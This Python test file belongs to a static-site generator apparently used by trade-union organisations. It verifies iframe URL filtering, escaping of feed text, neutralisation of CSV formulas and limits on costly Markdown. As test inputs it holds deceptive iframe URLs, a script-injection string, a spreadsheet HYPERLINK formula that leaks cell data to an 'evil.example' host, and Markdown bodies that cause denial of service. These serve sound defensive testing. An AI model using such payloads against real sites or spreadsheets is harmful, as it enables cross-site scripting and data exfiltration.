"""Issue 20, markup and output side: iframes judged by the browser's URL rules, summaries that stay
text in feeds, CSV cells that are not formulas, Markdown a renderer can afford, and mkdocs.yml
extensions that cannot load reported as problems, not tracebacks."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import time
from pathlib import Path

import feedparser
import pytest

from fedsite.build.pipeline import build
from fedsite.model.diagnostics import Diagnostics
from fedsite.read.limits import check_markdown
from fedsite.plan.report import csv_cell
from fedsite.render.sanitize import allowed_src, clean_html
from fedsite.read.settings import DEFAULT_IFRAME_HOSTS

from conftest import NOW, PROJECT, build_once, copy_federation

SCRIPT = "</p><script>alert(1)</script>"
EVIL_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Нажмите")'

# ---------------------------------------------------------------------------------------------
# 1. iframes: what the browser loads is what is judged.

# (src as written, the URL kept, or None when the src must go)
IFRAME_URLS = [
    ("https://www.youtube.com/embed/x", "https://www.youtube.com/embed/x"),
    ("https://evil.com\\@www.youtube.com/x", None),  # a browser reads \ as /: evil.com
    ("https://evil.com\\\\@www.youtube.com/x", None),
    ("https://evil.com/\\@www.youtube.com", None),
    ("https://evil.com%2F@www.youtube.com/", None),  # userinfo: never in an embed
    ("https://user:pw@www.youtube.com/x", None),
    ("https://www.youtube.com@evil.com/", None),
    ("https://evil.com#@www.youtube.com", None),
    ("https://evil.com?@www.youtube.com", None),
    ("https://www.youtube.com\n.evil.com/", None),  # newlines are dropped: www.youtube.com.evil.com
    ("https://www.youtube.com.evil.com/", None),
    ("https://evilrutube.ru/x", None),
    ("//www.youtube.com/x", None),  # protocol-relative: http, or file: opened from disk
    ("https:www.youtube.com/x", None),  # relative to an https page: our own site
    ("http://rutube.ru/play/embed/1", None),
    ("javascript://www.youtube.com/%0aalert(1)", None),
    ("https://www.you\ttube.com/embed/x", "https://www.youtube.com/embed/x"),  # tab dropped, as browsers do
    (" https://rutube.ru/play/embed/1 ", "https://rutube.ru/play/embed/1"),
    ("HTTPS://WWW.YOUTUBE.COM/embed/x", "https://www.youtube.com/embed/x"),
    ("https:\\\\www.youtube.com\\embed\\x", "https://www.youtube.com/embed/x"),
    ("https://www.youtube%2Ecom/embed/x", "https://www.youtube.com/embed/x"),  # percent-encoded host
    ("https://ＷＷＷ.ｙｏｕｔｕｂｅ.com/embed/x", "https://www.youtube.com/embed/x"),  # IDNA maps fullwidth
    ("https://rutube.ru:443/x", "https://rutube.ru/x"),
    ("https://xn--rutube.ru/", None),
]


@pytest.mark.parametrize("src,kept", IFRAME_URLS)
def test_iframe_sources_are_judged_by_the_browsers_rules(src: str, kept: str | None) -> None:
    assert allowed_src(src, DEFAULT_IFRAME_HOSTS) == kept
    out = clean_html(f'<iframe src="{src}"></iframe>', DEFAULT_IFRAME_HOSTS)
    if kept is None:
        assert "src=" not in out, out
    else:
        assert f'src="{kept}"' in out, out


def test_unicode_and_odd_allow_list_entries() -> None:
    assert allowed_src("https://видео.рф/embed/1", ("видео.рф",)) == "https://xn--b1aedk6a.xn--p1ai/embed/1"
    assert allowed_src("https://evil.com./x", ("", ".", "rutube.ru")) is None  # an empty entry allows nothing


# ---------------------------------------------------------------------------------------------
# One build of the mini federation with hostile text where users can type it: a post's summary
# and iframe, an organization's description (the channel description) and name.

@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory: pytest.TempPathFactory) -> Path:
    repo = copy_federation("mini", tmp_path_factory.mktemp("hostile"))
    region = repo / "sites" / "region"
    card = (region / "site.yml").read_text(encoding="utf-8")
    (region / "site.yml").write_text(card + f"description: '{SCRIPT}'\n", encoding="utf-8")
    school = region / "district-a" / "school-1" / "site.yml"
    school.write_text(school.read_text(encoding="utf-8").replace(
        "name: Первичная организация школы 1", "name: '" + EVIL_NAME.replace("'", "''") + "'"), encoding="utf-8")
    (region / "posts" / "2026-05-20-vzlom.md").write_text(
        "---\ntitle: Проверка\nsummary: '" + SCRIPT + "'\n---\n\nТекст.\n\n"
        '<iframe src="https://evil.com\\@www.youtube.com/x"></iframe>\n\n'
        '<iframe src="https://www.youtube.com/embed/abc"></iframe>\n', encoding="utf-8")
    return build_once(repo)


def test_post_page_keeps_only_the_allowed_iframe(hostile_build: Path) -> None:
    page = (hostile_build / "posts" / "vzlom.html").read_text(encoding="utf-8")
    assert "evil.com" not in page
    assert 'src="https://www.youtube.com/embed/abc"' in page


@pytest.mark.parametrize("name", ["feed.xml", "atom.xml"])
def test_feed_summaries_and_descriptions_reach_readers_as_text(hostile_build: Path, name: str) -> None:
    raw = (hostile_build / name).read_bytes()
    # What a reader that renders HTML gets, and what a careful one gets: no script either way.
    for sanitize in (False, True):
        parsed = feedparser.parse(raw, sanitize_html=sanitize)
        assert parsed.bozo == 0, parsed.bozo_exception
        entry = next(e for e in parsed.entries if e.title == "Проверка")
        assert "<script" not in entry.summary.lower() and "<script" not in entry.get("description", "").lower()
        assert "&lt;script&gt;" in entry.summary  # shown as the text the secretary typed
        channel = parsed.feed.subtitle  # the organization's description, from site.yml
        assert "&lt;script&gt;" in channel and "<script" not in channel.lower()


def test_feed_content_keeps_sanitized_html(hostile_build: Path) -> None:
    parsed = feedparser.parse((hostile_build / "atom.xml").read_bytes(), sanitize_html=False)
    entry = next(e for e in parsed.entries if e.title == "Проверка")
    html = entry.content[0].value
    assert "<p>Текст.</p>" in html and "evil.com" not in html and "www.youtube.com/embed/abc" in html


# ---------------------------------------------------------------------------------------------
# 3. CSV: no formulas.

def test_monitoring_csv_neutralizes_formulas(hostile_build: Path) -> None:
    data = (hostile_build / "pages" / "monitoring-2026.csv").read_text(encoding="utf-8-sig")
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(data))}
    assert rows["school-1"]["name"] == "'" + EVIL_NAME
    for row in rows.values():
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.parametrize("value", ["=1+1", "+7 000", "-2", "@SUM(A1)", "\t=1", "\r=1", "＝1"])
def test_csv_cells_that_start_a_formula_get_an_apostrophe(value: str) -> None:
    assert csv_cell(value) == "'" + value
    assert csv_cell("Школа 1") == "Школа 1" and csv_cell(-1) == -1  # numbers stay numbers


# ---------------------------------------------------------------------------------------------
# 4. Markdown a renderer can afford: reported at path:line, not rendered, in bounded time.

def _body(n: int) -> dict[str, str]:
    """Pathological post bodies (file name -> body), each of which took Python-Markdown minutes, a
    RecursionError or gigabytes before it was bounded."""
    return {
        "2026-05-01-skobki.md": "[" * n + "x" + "]" * n,  # 16k: 42 s
        "2026-05-02-spiski.md": "".join("    " * i + "- a\n" for i in range(300)),  # RecursionError
        "2026-05-03-spisok-v-stroke.md": "- " * 2000 + "a",  # RecursionError
        "2026-05-04-citaty.md": "".join(">" * i + " a\n" for i in range(1, 800)),
        "2026-05-05-zvezdy.md": "*" * 3000 + "a" + "*" * 3000,  # RecursionError
        "2026-05-06-vydeleniya.md": "*a* " * 100_000,  # one paragraph: 93 s
        "2026-05-07-tegi.md": '<a x=">" y=">"' * 8000,  # html.parser: 31 s
        "2026-05-08-zagolovki.md": "# a\n" * 20_000,  # one block of headings
        "2026-05-09-skobki-zagolovka.md": "# a {" * 40_000,  # attr_list: ~60 s
        "2026-05-10-div.md": "<div markdown>\n" * 400 + "x\n" + "</div>\n" * 400,  # RecursionError
        "2026-05-11-ekranirovanie.md": "\\\\[" * 20_000,  # an escaped backslash, then a real `[`: 4k: 42 s
        # In <p markdown> blank lines do not end the inline text a `[` scans: 12 KB took 46 s.
        "2026-05-12-abzac-html.md": "<p markdown>\n" + ("[" * 40 + "\n\n") * 300 + "</p>",
        # Found by a fuzzer once the above were bounded:
        "2026-05-13-tildy.md": "~~~~~~word " * 5000,  # pymdownx.tilde: 800 took 6.8 s
        "2026-05-14-snoski.md": "[^1]: x\n\n" + "[^1] " * 4000,  # duplicate footnote references: 12 s
        "2026-05-15-kavychki.md": "````>``" * 6000,  # backtick runs without a pair: 3,000 took 2.5 s
        "2026-05-16-linii.md": "---\n- " * 20_000,  # rules written "- ---"
    }


@pytest.fixture
def hostile_markdown(mini: Path) -> Path:
    posts = mini / "sites" / "region" / "posts"
    for name, body in _body(50_000).items():
        (posts / name).write_text("---\ntitle: Тяжёлая разметка\n---\n\nПервый абзац.\n\n" + body + "\n",
                                  encoding="utf-8")
    return mini


def test_costly_markdown_is_reported_quickly_in_a_subprocess(hostile_markdown: Path) -> None:
    env = {**os.environ, "FEDSITE_NOW": NOW, "PYTHONPATH": str(PROJECT)}
    start = time.monotonic()
    done = subprocess.run([sys.executable, str(PROJECT / "build.py"), "check"], cwd=hostile_markdown, env=env,
                          capture_output=True, text=True, timeout=120)
    elapsed = time.monotonic() - start
    assert done.returncode == 1, done.stdout + done.stderr
    assert "Traceback" not in done.stderr and "Внутренняя ошибка" not in done.stdout + done.stderr
    out = done.stdout + done.stderr
    for name in _body(1):
        assert f"sites/region/posts/{name}:" in out, (name, out)
    # The body starts on line 7; the 26th line of the list is the first deeper than 50 levels (25 × 4
    # columns of indentation, two columns a level, and its marker).
    assert "2026-05-02-spiski.md:32: слишком глубокая вложенность списков, цитат или отступов (уровней: 51)" in out
    assert "2026-05-01-skobki.md:7: слишком глубокая вложенность или слишком много незакрытых квадратных скобок" in out
    assert "2026-05-05-zvezdy.md:7: слишком длинная цепочка символов «*» (3000 подряд)" in out
    assert elapsed < 60, elapsed  # minutes before; a normal check of the mini federation takes seconds


def test_check_markdown_is_linear_and_quiet_on_ordinary_text() -> None:
    prose = "Профсоюзная организация провела семинар для молодых педагогов района. " * 8
    ordinary = ("## Заголовок\n\n" + prose + "Абзац с [ссылкой](https://example.org), *курсивом*, **жирным**, "
                "`кодом` и <b>HTML</b>.\n\n- пункт\n    - вложенный пункт\n\n> " + prose + "\n\n"
                "| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nx = [[1, 2], [3]]\n```\n\n" + prose + "\n\n")
    assert check_markdown(ordinary) == []
    big = ordinary * (1_000_000 // len(ordinary))  # a megabyte of ordinary Markdown: no problem, fast
    start = time.monotonic()
    assert check_markdown(big) == []
    for body in _body(200_000).values():
        assert check_markdown(body)
    assert time.monotonic() - start < 10


def test_problem_lines_point_at_the_culprit() -> None:
    text = "Абзац.\n\n" + "".join("  " * i + "- a\n" for i in range(60))
    [(line, message)] = check_markdown(text)
    assert line > 40 and f"в строке {line}" in message and "вложенность списков" in message


# ---------------------------------------------------------------------------------------------
# 5. An extension in mkdocs.yml that cannot be loaded.

def _with_extensions(repo: Path, lines: str) -> None:
    config = repo / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8").replace("  - tables\n", "  - tables\n" + lines),
                      encoding="utf-8")


def _check_lines(repo: Path) -> list[str]:
    env = {**os.environ, "FEDSITE_NOW": NOW, "PYTHONPATH": str(PROJECT)}
    done = subprocess.run([sys.executable, str(PROJECT / "build.py"), "check"], cwd=repo, env=env,
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 1 and "Traceback" not in done.stderr, done.stdout + done.stderr
    return (done.stdout + done.stderr).splitlines()


def test_an_unknown_extension_is_a_mkdocs_yml_problem(mini: Path) -> None:
    _with_extensions(mini, "  - no_such_ext\n")
    lines = _check_lines(mini)
    assert any(line.startswith("mkdocs.yml:") and "«no_such_ext» не найдено" in line for line in lines), lines


def test_an_unknown_extension_is_the_only_problem(mini: Path) -> None:
    _with_extensions(mini, "  - no_such_ext\n")
    lines = _check_lines(mini)
    assert not [line for line in lines if "внутренняя ошибка" in line.lower()], lines


def test_an_unknown_extension_setting_is_a_mkdocs_yml_problem(mini: Path) -> None:
    _with_extensions(mini, "  - toc:\n      permalnk: true\n")
    lines = _check_lines(mini)
    assert any(line.startswith("mkdocs.yml:") and "permalnk" in line for line in lines), lines
    assert not [line for line in lines if "внутренняя ошибка" in line.lower()], lines


# ---------------------------------------------------------------------------------------------
# Control characters pasted from office programs (found by tests/test_fuzz.py): XML refuses them.

def test_control_characters_in_a_post_are_read_as_spaces_and_feeds_stay_valid(mini: Path) -> None:
    post = mini / "sites" / "region" / "posts" / "2026-05-21-word.md"
    post.write_bytes("---\ntitle: Из Word\nsummary: \"Итоги\x0bгода\"\n---\n\nПервая\x0bстрока\x08 и\x1b конец.\n"
                     .encode("utf-8"))
    diags = Diagnostics(mini)
    assert build(mini, mini / "public", diags, jobs=1) is not None, [str(p) for p in diags.sorted()]
    page = (mini / "public" / "posts" / "word.html").read_text(encoding="utf-8")
    assert "Первая строка и конец." in page and "\x0b" not in page
    for name in ("feed.xml", "atom.xml"):
        parsed = feedparser.parse((mini / "public" / name).read_bytes())
        assert parsed.bozo == 0, parsed.bozo_exception
        entry = next(e for e in parsed.entries if e.title == "Из Word")
        assert "Итоги года" in entry.summary
